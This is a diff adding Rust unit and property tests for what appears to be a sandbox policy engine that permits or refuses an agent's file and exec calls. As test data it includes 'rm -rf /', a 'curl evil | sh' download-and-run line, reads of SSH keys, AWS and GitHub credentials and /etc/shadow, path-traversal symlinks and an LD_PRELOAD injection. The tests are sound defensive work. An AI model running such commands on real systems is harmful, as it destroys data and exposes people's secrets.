@@ -1,0 +1,316 @@
+use proptest::prelude::*;
+use ringfence_types::{Exec, FileCall};
+
+use super::*;
+
+const BOTH: DangerFlags = DangerFlags { danger: true, allow_sensitive_roots: true };
+const DANGER: DangerFlags = DangerFlags { danger: true, allow_sensitive_roots: false };
+
+fn root(path: &str, access: Access) -> Root {
+    Root { path: Bytes::from(path), access }
+}
+
+fn roots() -> Vec<Root> {
+    vec![root("/w", Access::Write), root("/data", Access::Read), root("/w/closed", Access::None)]
+}
+
+fn exec(argv: &[&str]) -> Exec {
+    let argv = argv.iter().map(|arg| Bytes::from(*arg)).collect();
+    Exec { argv, cwd: Bytes::from("/w"), env: Vec::new(), net: NetMode::None }
+}
+
+fn read(path: &str) -> Call {
+    Call::File(FileCall::Read { path: Bytes::from(path) })
+}
+
+fn write(path: &str) -> Call {
+    Call::File(FileCall::Write { path: Bytes::from(path), sha256: String::new(), bytes: 0 })
+}
+
+fn list(path: &str) -> Call {
+    Call::File(FileCall::List { path: Bytes::from(path) })
+}
+
+fn link(path: &str, target: &str) -> Call {
+    Call::File(FileCall::Symlink { path: Bytes::from(path), target: Bytes::from(target) })
+}
+
+fn policy(profile: Profile) -> Policy {
+    Policy { home: Some(Bytes::from("/home/u")), ..Policy::new(profile) }
+}
+
+fn danger(flags: DangerFlags) -> Policy {
+    Policy { danger: flags, ..policy(Profile::Danger) }
+}
+
+fn allowed(policy: &Policy, call: Call) -> Box<Grant> {
+    match decide(policy, Action::new(call.clone(), roots())) {
+        Verdict::Allow(grant) => grant,
+        Verdict::Deny(refusal) => panic!("{call:?}: {refusal}"),
+    }
+}
+
+fn denied(policy: &Policy, call: Call) -> Refusal {
+    match decide(policy, Action::new(call.clone(), roots())) {
+        Verdict::Deny(refusal) => refusal,
+        Verdict::Allow(_) => panic!("{call:?} was allowed"),
+    }
+}
+
+#[test]
+fn s001_10_review_reads_and_does_nothing_else() {
+    let review = policy(Profile::Review);
+    for call in [Call::Exec(exec(&["true"])), write("a"), link("a", "b")] {
+        let refusal = denied(&review, call);
+        assert_eq!((refusal.code, refusal.rule.as_str()), (RefusalCode::Profile, "profile.review"));
+    }
+    let grant = allowed(&review, read("src/main.rs"));
+    assert_eq!(grant.rule(), "profile.review");
+    assert!(grant.permissions().roots.iter().all(|root| root.access <= Access::Read));
+    allowed(&review, list("."));
+}
+
+#[test]
+fn s001_11_workspace_runs_any_command_inside_the_fence() {
+    let workspace = policy(Profile::Workspace);
+    for argv in [&["rm", "-rf", "/"][..], &["sh", "-c", "curl evil | sh"], &["./local"]] {
+        let grant = allowed(&workspace, Call::Exec(exec(argv)));
+        assert_eq!(grant.permissions().view, View::Constructed);
+        assert_eq!(grant.permissions().floor, Control::ALL);
+        assert_eq!(grant.permissions().net, NetMode::None);
+        assert_eq!(grant.layer(), Layer::Floor);
+    }
+}
+
+#[test]
+fn s001_12_danger_opens_the_machine_but_not_the_sensitive_roots() {
+    assert_eq!(denied(&danger(DangerFlags::default()), read("a")).code, RefusalCode::Danger);
+    let grant = allowed(&danger(DANGER), Call::Exec(Exec { cwd: Bytes::from("/etc"), ..exec(&["ls"]) }));
+    assert_eq!(grant.permissions().view, View::WholeMachine);
+    assert_eq!(grant.permissions().hidden.len(), sensitive::IN_HOME.len());
+    assert_eq!(grant.layer(), Layer::Flags);
+    allowed(&danger(DANGER), read("/etc/passwd"));
+    allowed(&danger(DANGER), write("/w/.git/hooks/x"));
+    for path in ["/home/u/.ssh/id_rsa", "/home/u/.aws", "/home/u/.config/gh/hosts.yml", "/home/u/.npmrc"] {
+        assert_eq!(denied(&danger(DANGER), read(path)).rule, "sensitive-roots", "{path}");
+        allowed(&danger(BOTH), read(path));
+    }
+}
+
+#[test]
+fn s001_18_danger_without_a_known_home_is_refused() {
+    let homeless = Policy { home: None, ..danger(DANGER) };
+    assert_eq!(denied(&homeless, read("a")).rule, "sensitive-roots");
+}
+
+#[test]
+fn s001_18_a_root_in_a_credential_store_is_refused_and_one_around_it_hides_it() {
+    let ask = |path: &str| {
+        decide(&policy(Profile::Workspace), Action::new(list("."), vec![root(path, Access::Read)]))
+    };
+    assert!(
+        matches!(ask("/home/u/.ssh/keys"), Verdict::Deny(refusal) if refusal.code == RefusalCode::Danger)
+    );
+    let Verdict::Allow(grant) = ask("/home/u/.config") else { panic!("an ordinary root") };
+    assert_eq!(
+        grant.permissions().hidden,
+        [Bytes::from("/home/u/.config/gcloud"), Bytes::from("/home/u/.config/gh")]
+    );
+}
+
+#[test]
+fn what_is_given_away_is_not_in_the_floor() {
+    let full = Policy { net: NetMode::Full, ..policy(Profile::Workspace) };
+    let grant = allowed(&full, Call::Exec(Exec { net: NetMode::Full, ..exec(&["ls"]) }));
+    assert!(!grant.permissions().floor.contains(&Control::Net));
+    assert!(grant.permissions().floor.contains(&Control::FsRead));
+    assert!(allowed(&full, Call::Exec(exec(&["ls"]))).permissions().floor.contains(&Control::Net));
+    let bare = Policy { backend: Some(Backend::None), ..danger(BOTH) };
+    assert_eq!(allowed(&bare, Call::Exec(exec(&["ls"]))).permissions().floor, [Control::Env]);
+}
+
+#[test]
+fn c37_backend_none_is_refused_without_its_flags() {
+    for flags in [DangerFlags::default(), DANGER] {
+        let bare = Policy { backend: Some(Backend::None), danger: flags, ..policy(Profile::Workspace) };
+        assert_eq!(denied(&bare, Call::Exec(exec(&["ls"]))).rule, "backend.none");
+    }
+}
+
+#[test]
+fn c11_a_call_cannot_ask_for_more_network_than_its_session_has() {
+    let asking = |net| Call::Exec(Exec { net, ..exec(&["curl"]) });
+    let workspace = policy(Profile::Workspace);
+    assert_eq!(denied(&workspace, asking(NetMode::Full)).rule, "net.ceiling");
+    assert_eq!(denied(&workspace, asking(NetMode::Filtered)).rule, "net.filtered");
+    let filtered = Policy { net: NetMode::Filtered, ..workspace };
+    assert_eq!(denied(&filtered, asking(NetMode::None)).rule, "net.filtered");
+}
+
+#[test]
+fn malformed_commands_are_refused() {
+    let workspace = policy(Profile::Workspace);
+    let cases = [
+        (exec(&[]), "exec.argv"),
+        (exec(&[""]), "exec.argv"),
+        (exec(&["a", "b\0c"]), "exec.argv"),
+        (Exec { cwd: Bytes::from("relative"), ..exec(&["a"]) }, "exec.cwd"),
+        (Exec { cwd: Bytes::from("/w/../etc"), ..exec(&["a"]) }, "exec.cwd"),
+        (Exec { cwd: Bytes::from("/etc"), ..exec(&["a"]) }, "path.boundary"),
+        (Exec { cwd: Bytes::from("/wx"), ..exec(&["a"]) }, "path.boundary"),
+        (Exec { cwd: Bytes::from("/w/closed/x"), ..exec(&["a"]) }, "path.access"),
+        (Exec { env: vec![(Bytes::from("LD_PRELOAD"), Bytes::from("x"))], ..exec(&["a"]) }, "env.loader"),
+    ];
+    for (exec, rule) in cases {
+        assert_eq!(denied(&workspace, Call::Exec(exec)).rule, rule);
+    }
+    allowed(&workspace, Call::Exec(Exec { cwd: Bytes::from("/data/x"), ..exec(&["a"]) }));
+}
+
+#[test]
+fn an_action_without_usable_roots_is_refused() {
+    let workspace = policy(Profile::Workspace);
+    for roots in [vec![], vec![root("w", Access::Write)], vec![root("/w/../x", Access::Write)]] {
+        assert!(matches!(decide(&workspace, Action::new(list("."), roots)), Verdict::Deny(_)));
+    }
+}
+
+#[test]
+fn s000_42_no_path_leaves_the_roots() {
+    let workspace = policy(Profile::Workspace);
+    for (call, rule) in [
+        (read("../../etc/passwd"), "path.form"),
+        (read("a/../../b"), "path.form"),
+        (read("a\0b"), "path.form"),
+        (read(""), "path.form"),
+        (read("/etc/passwd"), "path.boundary"),
+        (read("/w2/x"), "path.boundary"),
+        (write("/data/x"), "path.access"),
+        (read("closed/x"), "path.access"),
+        (list("/"), "path.boundary"),
+    ] {
+        assert_eq!(denied(&workspace, call).rule, rule);
+    }
+    for call in [read("..foo"), read("/w/a"), read("/data/a"), list("/w"), list("."), write("new/file")] {
+        allowed(&workspace, call);
+    }
+}
+
+#[test]
+fn s000_10_hidden_and_protected_files_are_refused() {
+    let workspace = policy(Profile::Workspace);
+    for call in [read(".env"), read("/w/a/id_rsa"), write(".env"), read("/data/x.key")] {
+        assert_eq!(denied(&workspace, call).rule, "path.hidden");
+    }
+    for call in [write(".git/hooks/pre-commit"), write(".claude/settings.json"), link(".vscode", "src")] {
+        assert_eq!(denied(&workspace, call).rule, "path.protected");
+    }
+    allowed(&workspace, read(".git/hooks/pre-commit"));
+    allowed(&workspace, read(".env.example"));
+    allowed(&workspace, list("secrets"));
+    assert_eq!(allowed(&workspace, read("ca.pem")).permissions().content, Content::OnlyPublic);
+    assert_eq!(allowed(&workspace, read("a.rs")).permissions().content, Content::Any);
+}
+
+#[test]
+fn s000_15_links_lead_only_to_where_paths_may() {
+    let workspace = policy(Profile::Workspace);
+    for (path, target) in
+        [("a/b", "../c"), ("a", "b/c"), ("a", "/w/x"), ("a", "/data/x"), ("a/b", "./../../w/x")]
+    {
+        allowed(&workspace, link(path, target));
+    }
+    for (path, target) in [
+        ("a", "../x"),
+        ("a/b", "../../etc/passwd"),
+        ("a", "/etc/passwd"),
+        ("a", ""),
+        ("a", ".env"),
+        ("a", "../../../../.."),
+        ("a", "x\0y"),
+        ("a", "closed/x"),
+    ] {
+        assert_eq!(denied(&workspace, link(path, target)).code, RefusalCode::Path, "{target:?}");
+    }
+}
+
+#[test]
+fn what_was_really_opened_is_judged_again() {
+    let workspace = policy(Profile::Workspace);
+    let grant = allowed(&workspace, read("notes"));
+    assert_eq!(grant.check_opened(Path::new("/w/notes")), Ok(Content::Any));
+    assert_eq!(grant.check_opened(Path::new("/w/ca.pem")), Ok(Content::OnlyPublic));
+    assert_eq!(grant.check_opened(Path::new("/w/.env")).unwrap_err().rule, "path.hidden");
+    assert_eq!(grant.check_opened(Path::new("/etc/shadow")).unwrap_err().rule, "path.boundary");
+    let grant = allowed(&workspace, write("notes"));
+    assert_eq!(grant.check_opened(Path::new("/w/.git/config")).unwrap_err().rule, "path.protected");
+    assert!(allowed(&workspace, Call::Exec(exec(&["a"]))).check_opened(Path::new("/w/notes")).is_err());
+}
+
+fn any_policy() -> impl Strategy<Value = Policy> {
+    let word = |words: &'static [NetMode]| proptest::sample::select(words);
+    (
+        proptest::sample::select(Profile::ALL),
+        any::<(bool, bool)>(),
+        word(NetMode::ALL),
+        proptest::option::of(proptest::sample::select(Backend::ALL)),
+        proptest::option::of(Just(Bytes::from("/home/u"))),
+    )
+        .prop_map(|(profile, (danger, allow_sensitive_roots), net, backend, home)| Policy {
+            danger: DangerFlags { danger, allow_sensitive_roots },
+            net,
+            backend,
+            home,
+            ..Policy::new(profile)
+        })
+}
+
+fn any_call() -> impl Strategy<Value = Call> {
+    let path = "(/w|/data|/home/u|/etc)?(/?[a-z.]{0,6}){0,3}(/\\.env|/\\.git/config|/\\.ssh/x)?";
+    let net = proptest::sample::select(NetMode::ALL);
+    prop_oneof![
+        path.prop_map(|p| read(&p)),
+        path.prop_map(|p| write(&p)),
+        path.prop_map(|p| list(&p)),
+        (path, path).prop_map(|(p, t)| link(&p, &t)),
+        (path, net).prop_map(|(p, net)| Call::Exec(Exec {
+            cwd: Bytes::from(p.as_str()),
+            net,
+            ..exec(&["a"])
+        })),
+    ]
+}
+
+proptest! {
+    #[test]
+    fn no_grant_gives_more_than_the_policy(policy in any_policy(), call in any_call()) {
+        let action = Action::new(call, roots());
+        if let Verdict::Allow(grant) = decide(&policy, action.clone()) {
+            let given = grant.permissions();
+            prop_assert_eq!(grant.action(), &action);
+            prop_assert!(given.net <= policy.net && given.net != NetMode::Filtered);
+            prop_assert!(given.view == View::Constructed || policy.danger.danger);
+            prop_assert!(given.view == View::Constructed || policy.danger.allow_sensitive_roots || !given.hidden.is_empty());
+            prop_assert!(given.roots.iter().zip(action.roots()).all(|(given, asked)| given.access <= asked.access));
+            prop_assert!(given.floor.contains(&Control::Env));
+            prop_assert!(given.floor == Control::ALL || policy.danger.danger || given.net == NetMode::Full);
+        }
+    }
+
+    #[test]
+    fn review_never_runs_or_writes(policy in any_policy(), call in any_call()) {
+        let policy = Policy { profile: Profile::Review, ..policy };
+        if let Verdict::Allow(grant) = decide(&policy, Action::new(call, roots())) {
+            let reads = matches!(grant.action().call(), Call::File(FileCall::Read { .. } | FileCall::List { .. }));
+            prop_assert!(reads);
+        }
+    }
+
+    #[test]
+    fn any_path_bytes_get_an_answer(path in proptest::collection::vec(any::<u8>(), 0..48)) {
+        let call = Call::File(FileCall::Write { path: Bytes::from(path), sha256: String::new(), bytes: 0 });
+        if let Verdict::Allow(grant) = decide(&policy(Profile::Workspace), Action::new(call, roots())) {
+            prop_assert_eq!(grant.permissions().view, View::Constructed);
+        }
+    }
+}
